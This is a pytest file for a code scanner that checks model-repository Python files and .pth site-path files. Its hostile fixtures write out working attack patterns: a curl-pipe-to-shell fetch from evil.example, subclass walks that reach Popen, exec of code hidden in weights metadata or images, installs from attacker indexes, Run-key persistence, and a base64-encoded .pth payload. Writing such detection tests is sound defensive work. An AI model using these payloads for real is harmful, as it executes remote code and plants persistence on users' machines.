"""Python that digs classes out of the interpreter, runs what data holds, or settles in the system."""

import pytest

from backstamp.core.verdict import Outcome
from kit.scanning import verdict

_RUN = "curl http://evil.example/x | sh"
_ALL = "object.__subclasses__()"
_PICKED = "if c.__name__ == 'Popen'"

HOSTILE = {
    "a class picked by a list": f"[c for c in {_ALL} {_PICKED}][0]({_RUN!r}, shell=True)\n",
    "a class picked from a value": (
        f"[c for c in ().__class__.__base__.__subclasses__() {_PICKED}][0]({_RUN!r}, shell=True)\n"
    ),
    "a class picked by next": f"next(c for c in {_ALL} {_PICKED})({_RUN!r}, shell=True)\n",
    "a class picked by position": f"list({_ALL})[317]({_RUN!r}, shell=True)\n",
    "code in weights": (
        "from safetensors import safe_open\n"
        "with safe_open('model.safetensors', 'pt') as f:\n    exec(f.metadata()['init'])\n"
    ),
    "code in a picture": "from PIL import Image\nexec(bytes(Image.open('logo.png').getdata()))\n",
    "a package from an unknown index": (
        "import os\nos.system('pip install tool --index-url http://evil.example/simple')\n"
    ),
    "a package from an unknown address": (
        "import subprocess, sys\n"
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'http://evil.example/x.tar.gz'])\n"
    ),
    "a run key": (
        "import winreg\n"
        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER,\n"
        "    r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'x.exe')\n"
    ),
}

HARMLESS = {
    "a registry of classes": (
        "class Base:\n    name = ''\n"
        "def make(name):\n    return [c for c in Base.__subclasses__() if c.name == name][0]()\n"
        "made = [c() for c in Base.__subclasses__()]\n"
    ),
    "names of all classes": "print([c.__name__ for c in object.__subclasses__()])\n",
    "an index of wheels": (
        "import os\nif __name__ == '__main__':\n"
        "    os.system('pip install torch --index-url https://download.pytorch.org/whl/cpu')\n"
    ),
    "a picture": "from PIL import Image\nimage = Image.open('logo.png')\nprint(image.size)\n",
    "a key that is read": (
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'Software\\Python\\PythonCore')\n"
    ),
}

SITE_PATHS = {
    "plain": f"import os; os.system({_RUN!r})\n",
    "behind a path": f"/usr/lib/tool\nimport os; os.system({_RUN!r})\n",
    "encoded": (
        "import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vZXZpbC5leG"
        "FtcGxlL3ggfCBzaCcp'))\n"
    ),
}
HARMLESS_SITE_PATHS = {
    "a shim": (
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim()\n"
    ),
    "an editable install": "import __editable___tool_finder; __editable___tool_finder.install()\n",
    "paths": "/home/user/important\n../src\n",
    "coverage": "import coverage; coverage.process_startup()\n",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_denies(name: str) -> None:
    assert verdict(HOSTILE[name].encode(), "modeling_x.py").outcome is Outcome.DENY


@pytest.mark.parametrize("name", HARMLESS)
def test_leaves_alone(name: str) -> None:
    assert verdict(HARMLESS[name].encode(), "modeling_x.py").outcome is Outcome.ALLOW


@pytest.mark.parametrize("name", SITE_PATHS)
def test_denies_what_site_paths_run_at_each_start(name: str) -> None:
    assert verdict(SITE_PATHS[name].encode(), "tool.pth").outcome is Outcome.DENY


@pytest.mark.parametrize("name", HARMLESS_SITE_PATHS)
def test_leaves_usual_site_paths_alone(name: str) -> None:
    assert verdict(HARMLESS_SITE_PATHS[name].encode(), "tool.pth").outcome is Outcome.ALLOW
